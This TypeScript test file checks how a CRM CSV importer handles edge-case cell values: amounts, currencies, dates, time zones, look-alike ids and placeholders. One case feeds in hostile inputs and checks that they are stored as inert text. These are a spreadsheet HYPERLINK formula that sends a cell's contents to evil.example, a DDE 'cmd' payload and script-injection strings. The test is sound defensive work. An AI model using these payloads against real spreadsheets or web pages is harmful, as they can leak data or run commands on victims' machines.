import {expect} from "vitest";
import {csv, OPPORTUNITY_HEADER, ZH_HEADER, type HostileCase, type Query} from "../hostile-case.ts";

/** How the reason of a value set aside ends: its row is loaded, that value missing. */
export const WITHOUT_IT = "; the row is loaded without it";
export const NOT_A_DATE = (value: string) => `"${value}" is not a date and time${WITHOUT_IT}`;
const OUT_OF_RANGE = (value: string) => `"${value}" is outside 1900–2100${WITHOUT_IT}`;
export const NOT_AN_AMOUNT = (value: string) => `"${value}" is not an amount${WITHOUT_IT}`;
export const NOT_A_SHARE = (value: string) => `"${value}" is not a share between 0 and 1 or a percentage${WITHOUT_IT}`;

/** Opportunity rows whose one varying cell is `column`: ids o1, o2 … from line 2. */
export function rowsWith(column: "name" | "amount" | "created_at", values: string[]): string[] {
  return values.map((value, i) => {
    const cells = {name: `Deal ${i + 1}`, amount: "100", created_at: "2024-01-05", [column]: value};
    return `o${i + 1},${cells.name},intent,${cells.amount},${cells.created_at}`;
  });
}

const column = (query: Query, sql: string) =>
  query(`SELECT opportunity_id AS id, ${sql} AS v FROM opportunities ORDER BY _line`);

export const values = async (query: Query, sql: string) => (await column(query, sql)).map((r) => r.v);

/** Cell values at the edges: amounts, currencies, dates, time zones, identifiers, formulas, markup. */
export const VALUE_CASES: HostileCase[] = [
  {
    // negative amounts are kept (CRMs export credit notes and corrections so); beyond DECIMAL(18,2) is set aside:
    // the row loads without its amount
    name: "extreme and negative amounts",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("amount", [
          "-500",
          '"(1,234.00)"',
          "9999999999999999.99",
          "10000000000000000",
          "99999999999999999999",
          "1e20",
          "NaN",
          "Infinity",
          "0.001",
          "-0",
          '"¥12.5万"',
          "3亿"
        ])
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 12,
        setAside: [
          [
            5,
            "invalid_amount",
            "amount",
            `"10000000000000000" is too large for an amount (at most 16 digits before the decimal point)${WITHOUT_IT}`
          ],
          [
            6,
            "invalid_amount",
            "amount",
            /^"99999999999999999999" is too large for an amount .*; the row is loaded without it$/
          ],
          [7, "invalid_amount", "amount", /^"1e20" is too large for an amount .*; the row is loaded without it$/],
          [8, "invalid_amount", "amount", NOT_AN_AMOUNT("NaN")],
          [9, "invalid_amount", "amount", NOT_AN_AMOUNT("Infinity")]
        ]
      }
    },
    check: async (query) =>
      expect(await column(query, "amount::VARCHAR")).toEqual(
        [
          ["o1", "-500.00"],
          ["o2", "-1234.00"],
          ["o3", "9999999999999999.99"],
          ["o4", null],
          ["o5", null],
          ["o6", null],
          ["o7", null],
          ["o8", null],
          ["o9", "0.00"],
          ["o10", "0.00"],
          ["o11", "125000.00"],
          ["o12", "300000000.00"]
        ].map(([id, v]) => ({id, v}))
      )
  },
  {
    // no exchange rates are guessed: each amount keeps its own currency
    name: "amounts in several currencies, without rates",
    files: {
      "opportunities.csv": csv(
        "opportunity_id,stage,amount,currency,created_at",
        "o1,won,¥100,,2024-01-05",
        "o2,won,$100,,2024-01-05",
        "o3,won,€100,,2024-01-05",
        "o4,won,100 USD,,2024-01-05",
        "o5,won,100,人民币,2024-01-05",
        "o6,won,100,美元,2024-01-05",
        "o7,won,100,usd,2024-01-05",
        "o8,won,100港元,,2024-01-05",
        "o9,won,100,XYZ,2024-01-05",
        "o10,won,100,,2024-01-05"
      )
    },
    expect: {"opportunities.csv": {loaded: 10}},
    check: async (query) =>
      expect(await values(query, "currency")).toEqual([
        "CNY",
        "USD",
        "EUR",
        "USD",
        "CNY",
        "USD",
        "USD",
        "HKD",
        "XYZ",
        "CNY"
      ])
  },
  {
    name: "dates at the ends of the range",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("created_at", [
          "1900-01-01",
          "1899-12-31",
          "2100-12-31 23:59:59",
          "2101-01-01",
          "2999-12-31",
          "9999-12-31"
        ])
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 6,
        setAside: [
          [3, "date_out_of_range", "created_at", OUT_OF_RANGE("1899-12-31")],
          [5, "date_out_of_range", "created_at", OUT_OF_RANGE("2101-01-01")],
          [6, "date_out_of_range", "created_at", OUT_OF_RANGE("2999-12-31")],
          [7, "date_out_of_range", "created_at", OUT_OF_RANGE("9999-12-31")]
        ]
      }
    },
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual([
        "1900-01-01 00:00:00",
        null,
        "2100-12-31 23:59:59",
        null,
        null,
        null
      ])
  },
  {
    // a serial has five digits, 1927-05-18 to 2100-12-31: 2024 and 12 are a year and a day, not 1905-07-16 and
    // 1900-01-12, and the days before 1900-03-01, which Excel counts with a 1900-02-29 that never was, are not read
    name: "Excel serial dates",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("created_at", [
          "2024",
          "12",
          "60",
          "9999",
          "10000",
          "45292",
          "45292.75",
          "73415",
          "73416",
          "2958465"
        ])
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 10,
        setAside: [
          [2, "invalid_date", "created_at", NOT_A_DATE("2024")],
          [3, "invalid_date", "created_at", NOT_A_DATE("12")],
          [4, "invalid_date", "created_at", NOT_A_DATE("60")],
          [5, "invalid_date", "created_at", NOT_A_DATE("9999")],
          [10, "invalid_date", "created_at", NOT_A_DATE("73416")],
          [11, "invalid_date", "created_at", NOT_A_DATE("2958465")]
        ]
      }
    },
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual([
        null,
        null,
        null,
        null,
        "1927-05-18 00:00:00",
        "2024-01-01 00:00:00",
        "2024-01-01 18:00:00",
        "2100-12-31 00:00:00",
        null,
        null
      ])
  },
  {
    name: "days that do not exist",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("created_at", [
          "2024-02-29",
          "2023-02-29",
          "1900-02-29",
          "2024-02-30",
          "2024-13-01",
          "0000-00-00 00:00:00",
          "2016-12-31 23:59:60"
        ])
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 7,
        setAside: [
          "2023-02-29",
          "1900-02-29",
          "2024-02-30",
          "2024-13-01",
          "0000-00-00 00:00:00",
          "2016-12-31 23:59:60"
        ].map((value, i): [number, string, string, string] => [i + 3, "invalid_date", "created_at", NOT_A_DATE(value)])
      }
    },
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual(["2024-02-29 00:00:00", ...Array(6).fill(null)])
  },
  {
    // 05/01/2024 is May 1st in one country and January 5th in another: never guessed
    name: "day and month in an ambiguous order",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("created_at", ["05/01/2024", "13/01/2024", "2024/01/05"])
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 3,
        setAside: [
          [
            2,
            "invalid_date",
            "created_at",
            /^"05\/01\/2024" is ambiguous: day-first or month-first\? set "dateOrder" .*; the row is loaded without it$/
          ],
          [3, "invalid_date", "created_at", /^"13\/01\/2024" is ambiguous.*; the row is loaded without it$/]
        ]
      }
    },
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual([null, null, "2024-01-05 00:00:00"])
  },
  {
    name: "day and month in an order the mapping file names",
    files: {
      "negocios.csv": csv(OPPORTUNITY_HEADER, ...rowsWith("created_at", ["05/01/2024", "13/01/2024", "31.12.2024"]))
    },
    mapping: {files: {"negocios.csv": {entity: "opportunities", columns: {}, dateOrder: "dmy"}}, stages: {}},
    expect: {"negocios.csv": {loaded: 3}},
    check: async (query) =>
      expect(await values(query, "created_at::DATE::VARCHAR")).toEqual(["2024-01-05", "2024-01-13", "2024-12-31"])
  },
  {
    // stored in UTC; an offset no zone has (+25:00) or a zone abbreviation (PST) is not read
    name: "time zones and offsets",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("created_at", [
          "2024-01-05T10:00:00Z",
          "2024-01-05T10:00:00+08:00",
          "2024-01-05 10:00:00 +0800",
          "2024-01-05T10:00:00-05:00",
          "2024-01-05 10:00:00",
          "2024-01-05T10:00:00+25:00",
          "2024-01-05 10:00 PST"
        ])
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 7,
        setAside: [
          [7, "invalid_date", "created_at", NOT_A_DATE("2024-01-05T10:00:00+25:00")],
          [8, "invalid_date", "created_at", NOT_A_DATE("2024-01-05 10:00 PST")]
        ]
      }
    },
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual([
        "2024-01-05 10:00:00",
        "2024-01-05 02:00:00",
        "2024-01-05 02:00:00",
        "2024-01-05 15:00:00",
        "2024-01-05 10:00:00",
        null,
        null
      ])
  },
  {
    // a Chinese export's times are Beijing time
    name: "naive times in a Chinese export",
    files: {
      "商机.csv": csv(ZH_HEADER, "SJ1,华东项目,意向,100,2024-01-05 08:00:00", "SJ2,华南项目,意向,100,2024年1月5日")
    },
    expect: {"商机.csv": {loaded: 2}},
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual(["2024-01-05 00:00:00", "2024-01-04 16:00:00"])
  },
  {
    // a wall-clock time the spring-forward skips, or the fall-back repeats, is still read: the skipped one as
    // standard time, the repeated one as its second (standard-time) occurrence
    name: "times in a daylight-saving gap and overlap",
    files: {
      "deals.csv": csv(
        OPPORTUNITY_HEADER,
        ...rowsWith("created_at", ["2024-03-10 02:30:00", "2024-11-03 01:30:00", "2024-07-01 12:00:00"])
      )
    },
    mapping: {files: {"deals.csv": {entity: "opportunities", columns: {}, timezone: "America/New_York"}}, stages: {}},
    expect: {"deals.csv": {loaded: 3}},
    check: async (query) =>
      expect(await values(query, "created_at::VARCHAR")).toEqual([
        "2024-03-10 07:30:00",
        "2024-11-03 06:30:00",
        "2024-07-01 16:00:00"
      ])
  },
  {
    // ids are text: leading zeros are kept, surrounding spaces are not part of the id
    name: "ids with leading zeros and trailing spaces",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        "00123,A,intent,1,2024-01-05",
        "123 ,B,intent,1,2024-01-05",
        "123,C,intent,1,2024-01-05",
        " 00123 ,D,intent,1,2024-01-05"
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 2,
        rejectedRows: [
          [4, "duplicate_key", "opportunity_id", 'duplicate opportunity_id "123" (first on line 3)'],
          [5, "duplicate_key", "opportunity_id", 'duplicate opportunity_id "00123" (first on line 2)']
        ]
      }
    },
    check: async (query) => expect((await column(query, "name")).map((r) => r.id)).toEqual(["00123", "123"])
  },
  {
    // letters that only look alike (Cyrillic О, fullwidth digits) are other ids, as in the CRM; invisible
    // characters and odd spaces around an id are not part of it, so those rows are duplicates
    name: "Unicode look-alike ids",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        "O1,Latin,intent,1,2024-01-05",
        "О1,Cyrillic,intent,1,2024-01-05",
        "１２３,Fullwidth,intent,1,2024-01-05",
        "123,ASCII,intent,1,2024-01-05",
        "O\u200b1,Zero-width space,intent,1,2024-01-05",
        "\ufeffO1,Byte-order mark,intent,1,2024-01-05",
        "123\u00a0,No-break space,intent,1,2024-01-05",
        "\u3000123,Ideographic space,intent,1,2024-01-05"
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 4,
        rejectedRows: [
          [6, "duplicate_key", "opportunity_id", 'duplicate opportunity_id "O1" (first on line 2)'],
          [7, "duplicate_key", "opportunity_id", 'duplicate opportunity_id "O1" (first on line 2)'],
          [8, "duplicate_key", "opportunity_id", 'duplicate opportunity_id "123" (first on line 5)'],
          [9, "duplicate_key", "opportunity_id", 'duplicate opportunity_id "123" (first on line 5)']
        ]
      }
    },
    check: async (query) =>
      expect((await column(query, "name")).map((r) => r.id)).toEqual(["O1", "О1", "１２３", "123"])
  },
  {
    // cells are data, never evaluated: a formula or markup is kept as text (the site escapes what it shows)
    name: "formulas, HTML and script in text cells",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        'o1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",intent,100,2024-01-05',
        "o2,<script>alert(1)</script>,intent,100,2024-01-05",
        'o3,"<img src=x onerror=""alert(1)"">",intent,100,2024-01-05',
        "o4,+cmd|' /C calc'!A0,intent,100,2024-01-05",
        "=o5,@SUM(1+1),intent,100,2024-01-05"
      )
    },
    expect: {"opportunities.csv": {loaded: 5}},
    check: async (query) =>
      expect(await column(query, "name")).toEqual([
        {id: "o1", v: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'},
        {id: "o2", v: "<script>alert(1)</script>"},
        {id: "o3", v: '<img src=x onerror="alert(1)">'},
        {id: "o4", v: "+cmd|' /C calc'!A0"},
        {id: "=o5", v: "@SUM(1+1)"}
      ])
  },
  {
    name: "a formula in an amount cell",
    files: {"opportunities.csv": csv(OPPORTUNITY_HEADER, ...rowsWith("amount", ["=1+2", "=SUM(D2:D3)"]))},
    expect: {
      "opportunities.csv": {
        loaded: 2,
        setAside: [
          [2, "invalid_amount", "amount", NOT_AN_AMOUNT("=1+2")],
          [3, "invalid_amount", "amount", NOT_AN_AMOUNT("=SUM(D2:D3)")]
        ]
      }
    },
    check: async (query) => expect(await values(query, "amount")).toEqual([null, null])
  },
  {
    // "NULL" and "N/A" are words to Shangji until a mapping file says they mean "missing": amounts that are not
    // one, set aside, where a blank amount is just missing
    name: "placeholders for missing values",
    files: {"opportunities.csv": csv(OPPORTUNITY_HEADER, ...rowsWith("amount", ["NULL", "N/A", "-", ""]))},
    expect: {
      "opportunities.csv": {
        loaded: 4,
        setAside: [
          [2, "invalid_amount", "amount", NOT_AN_AMOUNT("NULL")],
          [3, "invalid_amount", "amount", NOT_AN_AMOUNT("N/A")],
          [4, "invalid_amount", "amount", NOT_AN_AMOUNT("-")]
        ]
      }
    },
    check: async (query) => expect(await values(query, "amount")).toEqual([null, null, null, null])
  },
  {
    name: "placeholders the mapping file names as missing",
    files: {"export.csv": csv(OPPORTUNITY_HEADER, ...rowsWith("amount", ["NULL", "n/a", "-", ""]))},
    mapping: {files: {"export.csv": {entity: "opportunities", columns: {}, missing: ["NULL", "N/A", "-"]}}, stages: {}},
    expect: {"export.csv": {loaded: 4}},
    check: async (query) => expect(await values(query, "amount")).toEqual([null, null, null, null])
  },
  {
    name: "shares out of range",
    files: {
      "opportunities.csv": csv(
        "opportunity_id,stage,created_at,expected_margin,probability",
        "o1,intent,2024-01-05,35%,0.4",
        "o2,intent,2024-01-05,150%,40",
        "o3,intent,2024-01-05,0.2,-5%"
      )
    },
    expect: {
      "opportunities.csv": {
        loaded: 3,
        setAside: [
          [3, "invalid_ratio", "expected_margin", NOT_A_SHARE("150%")],
          [4, "invalid_ratio", "probability", NOT_A_SHARE("-5%")]
        ]
      }
    },
    // a bare number above 1 is a percentage: 40 is 0.4
    check: async (query) =>
      expect(await column(query, "[expected_margin, probability]")).toEqual([
        {id: "o1", v: [0.35, 0.4]},
        {id: "o2", v: [null, 0.4]},
        {id: "o3", v: [0.2, null]}
      ])
  },
  {
    name: "emoji, astral characters and control characters in text",
    files: {
      "opportunities.csv": csv(
        OPPORTUNITY_HEADER,
        "o1,🚀 Launch 𝔘𝔫𝔦,intent,100,2024-01-05",
        "o2,Bell\u0007 and\u001b escape,intent,100,2024-01-05"
      )
    },
    expect: {"opportunities.csv": {loaded: 2}},
    check: async (query) =>
      expect(await values(query, "name")).toEqual(["🚀 Launch 𝔘𝔫𝔦", "Bell\u0007 and\u001b escape"])
  }
];
